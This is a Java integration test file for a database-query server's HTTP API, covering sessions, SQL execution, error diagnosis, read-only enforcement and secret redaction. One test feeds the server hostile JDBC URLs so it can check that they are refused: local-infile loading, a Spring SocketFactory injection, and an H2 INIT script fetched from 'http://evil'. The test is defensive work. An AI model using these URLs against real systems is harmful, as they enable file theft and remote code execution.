package dev.databaseai.server;

import static org.assertj.core.api.Assertions.assertThat;

import dev.databaseai.server.demo.SqlScript;
import dev.databaseai.testkit.TestDatabase;
import io.micronaut.context.annotation.Property;
import io.micronaut.json.JsonMapper;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The v1 API through real HTTP against the embedded demo PostgreSQL and an embedded MariaDB. */
@MicronautTest
@Property(name = "databaseai.llm.provider", value = "auto")
class ApiTest {

  @Inject EmbeddedServer server;
  @Inject JsonMapper mapper;
  @Inject dev.databaseai.server.demo.DemoDatabase demo;

  Http http;

  @org.junit.jupiter.api.BeforeAll
  static void noModelConfigured() {
    // LLM settings are read from the environment and same-named system properties; another test
    // class in this JVM may have set some.
    System.getProperties()
        .keySet()
        .removeIf(k -> String.valueOf(k).matches("(OPENAI|VLLM|OLLAMA)_.*"));
  }

  @BeforeEach
  void client() {
    http = new Http(server.getURL().toString(), mapper);
  }

  private String demoSession() {
    Http.Reply created = http.post("/api/v1/sessions", "{\"database\":\"demo\"}");
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    return created.get("sessionId");
  }

  @Test
  void demoSessionListsTheNetworkTablesAndExpiresInAnHour() {
    Http.Reply created = http.post("/api/v1/sessions", "{\"database\":\"demo\"}");

    assertThat(created.status()).isEqualTo(201);
    assertThat((String) created.get("sessionId"))
        .matches("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
    assertThat((String) created.get("dialect")).isEqualTo("postgres");
    assertThat((List<String>) created.get("tables"))
        .contains(
            "public.device",
            "public.device_type",
            "public.location",
            "public.device_status",
            "public.interface",
            "public.link",
            "public.alert",
            "public.maintenance_window");
    assertThat(java.time.Instant.parse(created.get("expiresAt")))
        .isBetween(
            java.time.Instant.now().plusSeconds(59 * 60),
            java.time.Instant.now().plusSeconds(61 * 60));
  }

  @Test
  void sqlReturnsColumnsRowsAndCounts() {
    String id = demoSession();

    Http.Reply reply =
        http.post(
            "/api/v1/sessions/" + id + "/sql",
            "{\"sql\":\"SELECT hostname, installed_on FROM device WHERE hostname LIKE 'rtr-%' ORDER BY hostname\"}");

    assertThat(reply.status()).as(reply.body()).isEqualTo(200);
    assertThat((List<Map<String, Object>>) reply.get("columns"))
        .extracting(c -> c.get("name"))
        .containsExactly("hostname", "installed_on");
    assertThat(reply.rows())
        .hasSize(((Number) reply.get("rowCount")).intValue())
        .hasSizeGreaterThanOrEqualTo(5);
    assertThat(reply.rows().get(0).get(0)).isEqualTo("rtr-ams1-01");
    assertThat(reply.rows().get(0).get(1)).isEqualTo("2020-09-09");
    assertThat((Boolean) reply.get("truncated")).isFalse();
    assertThat(reply.json()).containsKey("elapsedMs");
  }

  @Test
  void brokenQueryGets422WithTheDiagnosis() {
    String id = demoSession();

    Http.Reply reply =
        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT hostnam FROM device\"}");

    assertThat(reply.status()).as(reply.body()).isEqualTo(422);
    assertThat(reply.error())
        .containsEntry("category", "UNDEFINED_COLUMN")
        .containsEntry("sqlState", "42703")
        .containsKeys("message", "identifier", "suggestions", "hint", "tables");
    assertThat((String) reply.error().get("message")).contains("hostnam");
  }

  @Test
  void deleteIsRefusedWith403ReadOnlyViolationAndNothingIsDeleted() {
    String id = demoSession();

    Http.Reply reply =
        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"DELETE FROM alert\"}");

    assertThat(reply.status()).as(reply.body()).isEqualTo(403);
    assertThat(reply.error()).containsEntry("category", "READ_ONLY_VIOLATION");
    Http.Reply count =
        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT COUNT(*) FROM alert\"}");
    assertThat(((Number) count.rows().get(0).get(0)).intValue()).isGreaterThan(20);
  }

  @Test
  void unknownSessionGets404Everywhere() {
    String unknown = "5f0c6a53-8a8e-4b7f-9f51-0d1b2c3d4e5f";
    assertThat(http.get("/api/v1/sessions/" + unknown).status()).isEqualTo(404);
    assertThat(http.get("/api/v1/sessions/" + unknown + "/schema").status()).isEqualTo(404);
    assertThat(http.delete("/api/v1/sessions/" + unknown).status()).isEqualTo(404);
    Http.Reply sql = http.post("/api/v1/sessions/" + unknown + "/sql", "{\"sql\":\"SELECT 1\"}");
    assertThat(sql.status()).isEqualTo(404);
    assertThat(sql.error()).containsEntry("code", "SESSION_NOT_FOUND");
    assertThat(http.post("/api/v1/sessions/" + unknown + "/ask", "{\"question\":\"x\"}").status())
        .isEqualTo(404);
  }

  @Test
  void deletedSessionIsGoneAndItsPoolStays() {
    String id = demoSession();

    assertThat(http.delete("/api/v1/sessions/" + id).status()).isEqualTo(204);

    assertThat(http.get("/api/v1/sessions/" + id).status()).isEqualTo(404);
    Http.Reply pools = http.get("/api/v1/stats/pools");
    assertThat(((Number) pools.get("poolCount")).intValue()).isGreaterThanOrEqualTo(1);
  }

  @Test
  void malformedJsonMissingFieldsAndWrongTypesGet400NamingTheField() {
    String id = demoSession();

    Http.Reply malformed = http.post("/api/v1/sessions", "{\"database\":");
    assertThat(malformed.status()).isEqualTo(400);
    assertThat((String) malformed.error().get("message")).contains("not valid JSON");

    Http.Reply missing = http.post("/api/v1/sessions/" + id + "/sql", "{\"query\":\"SELECT 1\"}");
    assertThat(missing.status()).isEqualTo(400);
    assertThat(missing.error()).containsEntry("field", "sql");
    assertThat((String) missing.error().get("message")).contains("'sql' is required");

    Http.Reply wrongType = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":42}");
    assertThat(wrongType.status()).isEqualTo(400);
    assertThat((String) wrongType.error().get("message"))
        .contains("'sql' must be a string")
        .contains("a number");

    Http.Reply notObject = http.post("/api/v1/sessions", "[1,2]");
    assertThat(notObject.status()).isEqualTo(400);

    Http.Reply empty = http.post("/api/v1/sessions", "");
    assertThat(empty.status()).isEqualTo(400);

    Http.Reply unknownDatabase = http.post("/api/v1/sessions", "{\"database\":\"prod\"}");
    assertThat(unknownDatabase.status()).isEqualTo(400);
    assertThat((String) unknownDatabase.error().get("message")).contains("'prod'");
  }

  @Test
  void sessionInfoNeverShowsThePassword() {
    String id = demoSession();

    Http.Reply info = http.get("/api/v1/sessions/" + id);

    assertThat(info.status()).isEqualTo(200);
    assertThat(info.json())
        .containsEntry("sessionId", id)
        .containsEntry("dialect", "postgres")
        .containsEntry("database", "demo");
    assertThat(info.body().toLowerCase()).doesNotContain("password");
  }

  @Test
  void schemaHasColumnsKeysForeignKeysAndComments() {
    String id = demoSession();

    Http.Reply schema = http.get("/api/v1/sessions/" + id + "/schema");

    assertThat(schema.status()).as(schema.body()).isEqualTo(200);
    List<Map<String, Object>> tables = schema.get("tables");
    Map<String, Object> device =
        tables.stream().filter(t -> "device".equals(t.get("name"))).findFirst().orElseThrow();
    assertThat((List<Map<String, Object>>) device.get("columns"))
        .extracting(c -> c.get("name"))
        .contains("hostname", "status_id");
    assertThat((List<String>) device.get("primaryKey")).containsExactly("id");
    assertThat((List<Map<String, Object>>) device.get("foreignKeys"))
        .extracting(fk -> fk.get("referencedTable"))
        .contains("device_type", "location", "device_status");
    assertThat((String) device.get("comment")).isEqualTo("Managed network devices");

    Http.Reply refreshed = http.get("/api/v1/sessions/" + id + "/schema?refresh=true");
    assertThat(java.time.Instant.parse(refreshed.get("loadedAt")))
        .isAfter(java.time.Instant.parse(schema.get("loadedAt")));
  }

  @Test
  void askWithoutAModelGets503NamingWhatToSet() {
    String id = demoSession();

    Http.Reply ask =
        http.post(
            "/api/v1/sessions/" + id + "/ask", "{\"question\":\"Which devices are offline?\"}");

    assertThat(ask.status()).as(ask.body()).isEqualTo(503);
    assertThat(ask.error()).containsEntry("code", "LLM_UNAVAILABLE");
    assertThat((String) ask.error().get("message"))
        .contains("OPENAI_API_KEY", "OLLAMA_HOST", "DATABASEAI_LLM_PROVIDER");
  }

  @Test
  void dangerousDriverPropertiesAndForeignUrlsAreRefused() {
    Http.Reply infile =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":\"jdbc:mysql://localhost:3306/x?allowLoadLocalInfile=true\",\"username\":\"u\"}");
    assertThat(infile.status()).isEqualTo(400);
    assertThat((String) infile.error().get("message")).contains("allowloadlocalinfile");

    Http.Reply factory =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":\"jdbc:postgresql://localhost/x?SocketFactory=org.springframework.context.support.ClassPathXmlApplicationContext\"}");
    assertThat(factory.status()).isEqualTo(400);

    Http.Reply h2 =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"}");
    assertThat(h2.status()).isEqualTo(400);
    assertThat((String) h2.error().get("message")).contains("jdbc:postgresql://");
  }

  @Test
  void wrongPasswordIsRefusedAlthoughAPoolForThatUserIsOpen() throws Exception {
    // The demo server demands passwords from every role but its local superuser.
    String url = "jdbc:postgresql://localhost:" + demo.port().orElseThrow() + "/demo";
    try (java.sql.Connection admin = java.sql.DriverManager.getConnection(url, "postgres", "");
        java.sql.Statement s = admin.createStatement()) {
      s.execute(
          "DO $$ BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'pw_user') THEN "
              + "CREATE ROLE pw_user LOGIN PASSWORD 'right-secret'; END IF; END $$");
      s.execute("GRANT SELECT ON ALL TABLES IN SCHEMA public TO pw_user");
    }

    Http.Reply ok =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":"
                + Http.quote(url)
                + ",\"username\":\"pw_user\",\"password\":\"right-secret\"}");
    assertThat(ok.status()).as(ok.body()).isEqualTo(201);

    Http.Reply wrong =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":"
                + Http.quote(url)
                + ",\"username\":\"pw_user\",\"password\":\"guess\"}");
    assertThat(wrong.status()).as(wrong.body()).isIn(422, 502);
    assertThat(wrong.error()).containsEntry("code", "CONNECTION_FAILED");
    assertThat(wrong.body()).doesNotContain("right-secret").doesNotContain("guess");
    assertThat(http.get("/api/v1/stats/pools").body()).doesNotContain("right-secret");
    assertThat(http.get("/api/v1/sessions/" + ok.get("sessionId")).body())
        .doesNotContain("right-secret");
  }

  @Test
  void mysqlSessionRunsTheSameDemoAndDiagnosesErrors() {
    TestDatabase maria = Databases.mariadb("demo");
    maria.execute(SqlScript.load("/demo/mysql.sql").toArray(String[]::new));

    Http.Reply created =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":"
                + Http.quote(maria.jdbcUrl())
                + ",\"username\":"
                + Http.quote(maria.username())
                + ",\"password\":"
                + Http.quote(maria.password())
                + "}");
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    assertThat((String) created.get("dialect")).isEqualTo("mysql");
    String id = created.get("sessionId");

    Http.Reply offline =
        http.post(
            "/api/v1/sessions/" + id + "/sql",
            "{\"sql\":\"SELECT d.hostname FROM device d JOIN device_status s ON s.id = d.status_id WHERE s.code = 'down' ORDER BY 1\"}");
    assertThat(offline.status()).as(offline.body()).isEqualTo(200);
    assertThat(offline.rows())
        .extracting(r -> r.get(0))
        .containsExactly("ap-lon1-02", "fw-nyc1-01", "rtr-par1-01", "sw-ams1-02");

    Http.Reply broken =
        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT hostnam FROM device\"}");
    assertThat(broken.status()).isEqualTo(422);
    assertThat(broken.error()).containsEntry("category", "UNDEFINED_COLUMN");

    Http.Reply write =
        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"DELETE FROM alert\"}");
    assertThat(write.status()).as(write.body()).isEqualTo(403);
  }

  @Test
  void healthStaysUpWhenAUsersDatabaseGoesDown() throws Exception {
    dev.databaseai.server.demo.DemoDatabase other = new dev.databaseai.server.demo.DemoDatabase();
    var credentials = other.credentials();
    Http.Reply created =
        http.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":"
                + Http.quote(credentials.key().jdbcUrl())
                + ",\"username\":"
                + Http.quote(credentials.key().username())
                + ",\"password\":"
                + Http.quote(credentials.password())
                + "}");
    assertThat(created.status()).as(created.body()).isEqualTo(201);

    other.close();

    Http.Reply health = http.get("/health");
    assertThat(health.status()).as(health.body()).isEqualTo(200);
    assertThat((String) health.get("status")).isEqualTo("UP");
    assertThat(health.body()).contains("\"status\":\"DOWN\"").contains(credentials.key().jdbcUrl());
    Http.Reply sql =
        http.post(
            "/api/v1/sessions/" + created.get("sessionId") + "/sql", "{\"sql\":\"SELECT 1\"}");
    assertThat(sql.status()).as(sql.body()).isIn(422, 503);
  }

  @Test
  void oversizedBodiesAreRefused() {
    String huge = "{\"sql\":\"SELECT '" + "x".repeat(1_200_000) + "'\"}";
    Http.Reply reply = http.post("/api/v1/sessions", huge);
    assertThat(reply.status()).isEqualTo(413);
    assertThat((String) reply.error().get("message")).contains("micronaut.server.max-request-size");
  }

  @Test
  void unknownEndpointsAnswerInTheApiErrorShape() {
    Http.Reply reply = http.get("/api/v1/nothing-here");
    assertThat(reply.status()).isEqualTo(404);
    assertThat(reply.error()).containsEntry("code", "NOT_FOUND");
    assertThat((String) reply.error().get("message"))
        .contains("/api/v1/nothing-here", "/openapi/databaseai-v1.yml");
  }

  @Test
  void statsHealthPrometheusAndOpenApiAreServed() {
    demoSession();

    Http.Reply sessions = http.get("/api/v1/stats/sessions");
    assertThat(sessions.status()).isEqualTo(200);
    assertThat(((Number) sessions.get("active")).intValue()).isPositive();

    Http.Reply pools = http.get("/api/v1/stats/pools");
    assertThat(pools.body()).contains("\"dialect\":\"postgres\"").doesNotContain("password");

    Http.Reply health = http.get("/health");
    assertThat(health.status()).isEqualTo(200);
    assertThat(health.body()).contains("\"databases\"", "\"llm\"");

    Http.Reply prometheus = http.get("/prometheus");
    assertThat(prometheus.status()).isEqualTo(200);
    assertThat(prometheus.body())
        .contains("databaseai_sessions_active", "hikaricp_connections_active");

    Http.Reply openapi = http.get("/openapi/databaseai-v1.yml");
    assertThat(openapi.status()).isEqualTo(200);
    assertThat(openapi.body()).contains("/api/v1/sessions/{id}/sql");

    assertThat(http.get("/api/v1/stats/pools").headers().firstValue("X-Request-Id"))
        .hasValueSatisfying(id -> assertThat(id).matches("[0-9a-f]{8}-[0-9a-f]{4}"));
    assertThat(
            java.util.stream.IntStream.range(0, 50)
                .mapToObj(i -> dev.databaseai.server.api.RequestIdFilter.newId())
                .distinct()
                .count())
        .as("fresh ids do not repeat")
        .isEqualTo(50);
  }
}
